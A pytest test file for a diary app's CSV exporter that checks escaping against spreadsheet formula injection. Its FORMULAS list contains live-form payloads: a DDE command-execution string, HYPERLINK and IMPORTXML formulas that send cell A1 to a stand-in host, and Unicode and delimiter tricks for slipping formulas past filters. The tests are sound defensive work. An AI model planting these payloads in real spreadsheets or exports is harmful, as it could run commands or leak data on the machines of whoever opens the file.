"""CSV as a spreadsheet and a program see it, without a database."""

import csv
import io
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from diary.exports.csv import stream, text_cell, unescape

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=HYPERLINK("http://x.example/?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+SUM(1;1)",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "=WEBSERVICE(A1)",
    "coffee;=1+1",
    "coffee;=1+1;tea",
    "coffee\n=1+1",
    "coffee\r\n@SUM(1)",
    "coffee; \t+1+1",
    '"=1+1',
    'coffee;"=HYPERLINK(1);"',
    'coffee;""=1+1',
]
SIGNS = "'=+-@\uff1d\uff0b\uff0d\uff20"


def as_spreadsheet(cell, delimiter):
    """The cells a spreadsheet could make of one cell, if it splits at this sign."""
    return [piece.strip(" \u00a0\u200b\ufeff\u3000") for piece in cell.split(delimiter)]


@pytest.mark.parametrize("words", FORMULAS)
def test_no_words_can_run_as_a_formula(words):
    cell = text_cell(words)
    assert cell[0] not in "=+-@\t\r\n \uff1d\uff0b\uff0d\uff20\u00a0\u200b\ufeff\u3000" or (
        words[0].isalpha()
    )
    pieces = [cell]
    for delimiter in ";\t\r\n":
        pieces = [part for piece in pieces for part in as_spreadsheet(piece, delimiter)]
    assert not [piece for piece in pieces if piece[:1] in set(SIGNS[1:])]


@pytest.mark.parametrize("words", FORMULAS)
@pytest.mark.parametrize("between", ",;\t")
def test_no_cell_runs_whatever_sign_a_spreadsheet_takes_between_cells(words, between):
    table = b"".join(stream(["id", "words", "place"], [["a1", words, "calf-l"]])).decode()
    rows = csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""), delimiter=between)
    cells = [cell.strip(" \t\r\n\u00a0\u200b\ufeff\u3000") for row in rows for cell in row]
    assert len(cells) >= 2
    assert not [cell for cell in cells if cell[:1] in set(SIGNS[1:])]


@pytest.mark.parametrize("words", FORMULAS)
def test_the_words_come_back_as_they_were(words):
    assert unescape(text_cell(words)) == words


@pytest.mark.parametrize(
    "words",
    [
        "",
        "after running",
        "5 - 3 = 2",
        "half past nine; then tea",
        "it's fine",
        "a@b",
        "\u00e9t\u00e9",
    ],
)
def test_ordinary_words_are_not_touched(words):
    assert text_cell(words) == words


@pytest.mark.parametrize("words", ["'", "'quoted'", "''", "' =1", "'=1", "a;'b"])
def test_an_apostrophe_of_the_person_stays_theirs(words):
    assert text_cell(words) != words
    assert unescape(text_cell(words)) == words


@given(st.text(alphabet=st.sampled_from("a1;,\"\t\r\n '=+-@\uff1d\u00a0\ufeff\x00\x85\u2028")))
def test_every_text_of_awkward_signs_survives_the_way_there_and_back(words):
    assert unescape(text_cell(words)) == words


@given(st.text())
def test_every_text_survives_the_way_there_and_back(words):
    assert unescape(text_cell(words)) == words


@given(st.text(), st.text())
def test_two_different_texts_never_become_the_same_cell(one, other):
    assert (text_cell(one) == text_cell(other)) == (one == other)


@given(
    st.lists(
        st.tuples(
            st.text(st.characters(exclude_categories=["Cs"])),
            st.none() | st.integers(0, 10_000),
            st.none() | st.decimals(0, 24, places=2).map(float),
        ),
        max_size=8,
    ),
    st.integers(1, 5),
)
def test_a_program_reads_back_what_was_written(rows, rows_a_chunk):
    sent = b"".join(stream(["words", "count", "hours"], rows, rows_a_chunk))
    heading, *read = csv.reader(io.StringIO(sent.decode("utf-8-sig"), newline=""))
    assert heading == ["words", "count", "hours"]
    assert [unescape(words) for words, _, _ in read] == [words for words, _, _ in rows]
    assert [int(count) if count else None for _, count, _ in read] == [n for _, n, _ in rows]
    assert [float(hours) if hours else None for _, _, hours in read] == [h for _, _, h in rows]


def test_unknown_is_an_empty_cell_and_zero_is_zero():
    sent = b"".join(stream(["a", "b", "c"], [["x", None, 0]]))
    assert sent.decode("utf-8-sig") == '"a","b","c"\r\n"x",,0\r\n'


def test_numbers_are_bare_with_a_point_and_text_is_quoted():
    sent = b"".join(stream(["a", "b"], [["07", 6.5]]))
    assert sent.decode("utf-8-sig").splitlines()[1] == '"07",6.5'


def test_it_starts_with_the_mark_that_spreadsheets_need_and_the_heading_is_there_when_empty():
    assert b"".join(stream(["diary_day"], [])) == b'\xef\xbb\xbf"diary_day"\r\n'


def test_the_heading_leaves_before_any_row_is_read_and_rows_are_read_a_chunk_at_a_time():
    read = []

    def endless():
        for number in itertools.count():
            read.append(number)
            yield [number]

    chunks = stream(["n"], endless(), rows_a_chunk=10)
    next(chunks)
    assert read == []
    assert next(chunks).count(b"\r\n") == 10
    assert len(read) == 10


@pytest.mark.parametrize("risky", ["=1+1", "\uff1d1", "one;=2", "one\n-two", " +3", "'quoted"])
@pytest.mark.parametrize("at", [0, 1, 2])
def test_one_risky_text_in_a_column_of_plain_ones_is_made_safe_and_they_stay(risky, at):
    column = ["calf-l", "after a run", None]
    column[at] = risky
    (_, chunk) = stream(["words"], [[cell] for cell in column])
    read = [cell for (cell,) in csv.reader(io.StringIO(chunk.decode(), newline=""))]
    assert read[at] == text_cell(risky) != risky
    assert [cell or None for cell in read[:at] + read[at + 1 :]] == column[:at] + column[at + 1 :]
